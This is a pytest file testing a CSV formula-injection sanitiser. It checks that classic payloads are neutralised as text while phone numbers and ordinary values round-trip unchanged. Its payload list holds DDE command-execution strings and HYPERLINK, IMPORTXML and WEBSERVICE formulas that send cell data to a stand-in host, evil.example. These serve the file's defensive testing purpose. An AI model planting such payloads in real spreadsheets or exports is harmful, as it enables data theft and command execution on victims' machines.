"""CSV formula injection (OWASP): the classic payloads are written as text; phones stay readable."""

from __future__ import annotations

import pytest

from desktop.domain.csv_cells import is_phone_like, neutralise, restore

PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\", A1), \"//a\")",
    "=WEBSERVICE(\"http://evil.example/\")",
    "\t=1+1",
    "\r=1+1",
    "+",
    "-",
    "@",
    "+86 138 0013 8000 =1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_classic_payloads_become_text(payload: str) -> None:
    written = neutralise(payload)
    assert written == "'" + payload
    assert restore(written) == payload


@pytest.mark.parametrize("phone", ["+86 138 0013 8000", "+8613800138000", "+1 415-555-0100",
                                   "+44 (20) 7946 0958", "+852 2345.6789"])
def test_phone_numbers_stay_readable(phone: str) -> None:
    assert is_phone_like(phone)
    assert neutralise(phone) == phone
    assert restore(phone) == phone


@pytest.mark.parametrize("value", ["张伟", "'hello", "''", "a=b", "13800138000", "", "'=1+1",
                                   "''+1", "'\t", "- a list", "-12", "+12"])
def test_every_value_comes_back_unchanged(value: str) -> None:
    written = neutralise(value)
    assert written[:1] not in ("=", "+", "-", "@", "\t", "\r") or is_phone_like(written)
    assert restore(written) == value
